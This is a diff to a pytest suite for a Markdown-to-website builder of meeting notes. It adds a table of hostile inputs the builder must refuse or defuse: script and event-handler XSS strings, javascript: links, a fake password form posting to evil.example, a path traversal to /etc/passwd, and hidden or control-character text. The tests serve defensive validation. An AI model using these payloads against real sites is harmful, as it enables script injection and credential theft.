@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import re
 import time
+from collections.abc import Callable
 
 import pytest
 
@@ -45,13 +47,14 @@ WITHHELD = {
 
 
 @pytest.mark.parametrize("text", WITHHELD.values(), ids=WITHHELD)
-def test_a_note_that_is_not_clearly_published_is_not_shown(text: str) -> None:
+def test_a_note_that_is_not_clearly_published_is_not_shown(text: str, kept: Callable[..., None]) -> None:
     content = given({"meetings/2024/a.md": text})
     site, found = checked(content)
     if site is None:
         assert any(each.severity == "error" for each in found)
     else:
         assert "SECRET" not in "".join(built(content).values())
+    kept(1, "spellings of a draft or an embargo that show nothing")
 
 
 @pytest.mark.parametrize("data", [b"\x00", "text".encode("utf-16"), b"---\n\xff\n---\n", b"\xef\xbb\xbf"])
@@ -79,10 +82,11 @@ def test_what_is_no_text_is_refused(data: bytes) -> None:
     ],
     ids=lambda body: body[:14].replace("\n", " "),
 )
-def test_a_large_or_tangled_note_stalls_nothing(body: str) -> None:
+def test_a_large_or_tangled_note_stalls_nothing(body: str, kept: Callable[..., None]) -> None:
     began = time.monotonic()
     checked(given({"meetings/2024/a.md": note(body)}), SETTINGS)
     assert time.monotonic() - began < 5
+    kept(6, "large and tangled notes read within 5 seconds")
 
 
 @pytest.mark.parametrize("stem", ["..", "_redirects", "CNAME", "CON", "cafe\u0301", "a#b", "-rf", "a b"])
@@ -106,3 +110,63 @@ def test_fields_are_shown_as_they_are_written(value: str) -> None:
     page = built(given({"meetings/2024/a.md": note("", venue=quoted)}))["meetings/a/index.html"]
     escaped = value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&#34;")
     assert f"<dd>{escaped}</dd>" in page
+
+
+PAYLOADS = {
+    "script": "<script>alert(1)</script>",
+    "picture with a handler": "<svg onload=alert(1)>",
+    "form": '<form action="https://evil.example"><input name=pw><button>Sign in</button></form>',
+    "base": '<base href="https://evil.example/">',
+    "style": '<p style="position:fixed;inset:0">x</p>',
+    "object": '<object data="javascript:alert(1)"></object>',
+    "details": "<details open ontoggle=alert(1)><summary>x</summary></details>",
+    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    "script address": "[a](JaVaScRiPt:alert(1))",
+    "script address with a reference": "[a](java&#9;script:alert(1))",
+    "automatic address": "<javascript:alert(1)>",
+    "other scheme": "[a](vbscript:msgbox(1))",
+    "data": "[a](data:text/html;base64,PHNjcmlwdD4=)",
+    "picture": "![a](data:image/svg+xml;base64,PHN2Zy8+)",
+    "picture elsewhere": "![a](//evil.example/p.gif)",
+    "link elsewhere": "[a](//evil.example/)",
+    "link out of the folder": "[a](../../../../etc/passwd)",
+    "title": '[a](http://e "x\\" onmouseover=alert(1) y=\\"")',
+    "attributes": "[a](http://e){: onclick=alert(1)}",
+    "attributes of a paragraph": 'para\n{: onmouseover="alert(1)" style="color:red" }',
+    "abbreviation": '*[PCC]: x" onmouseover="alert(1)\n\nPCC',
+    "fence": '```js" onclick="alert(1)\ncode\n```',
+    "tildes": "~~~\ncode\n~~~",
+    "contents": "[TOC]\n\n# [x](javascript:alert(1))",
+    "Markdown in HTML": '<div markdown="1" onclick="alert(1)">\n*x*\n</div>',
+    "admonition": '!!! note" onclick="alert(1)\n    x',
+    "comment": "Public <!-- secret CANARY --> text",
+    "footnote": "Public.\n\n[^sec]: CANARY unused footnote",
+    "alternative text": "![victim CANARY](a.png)",
+    "hidden": "<p hidden>CANARY</p>",
+    "link definition": "[x]: https://evil.example 'CANARY'",
+    "zero width": "pay\u200bment",
+    "bidirectional": "\u202etfard\u202c",
+    "placeholder": "a\u0002wzxhzdk:0\u0003b",
+    "escape": "a\u001b[31mred",
+    "null": "a\0b",
+    "reference": "&lt;script&gt;",
+    "processing": "<?php echo 1 ?>",
+    "template": "{{ config }} {% raw %}",
+}
+HARMLESS = {"template", "admonition"}
+
+
+@pytest.mark.parametrize("name", PAYLOADS)
+def test_no_text_becomes_active(name: str, kept: Callable[..., None]) -> None:
+    content = given({"meetings/2024/a.md": note(f"## 1. A\n\n{PAYLOADS[name]}\n")})
+    site, found = checked(content)
+    if name in HARMLESS:
+        assert site, found
+        page = built(content)["meetings/a/index.html"]
+        assert not re.search(r"<[^>]*onclick", page)
+        assert "{{ config }}" in page or name != "template"
+    else:
+        assert site is None
+        assert {each.place.path for each in found if each.severity == "error"} == {"meetings/2024/a.md"}
+        assert all(each.place.line >= 8 for each in found if each.severity == "error")
+    kept(6, "hostile texts refused at their line, or harmless")
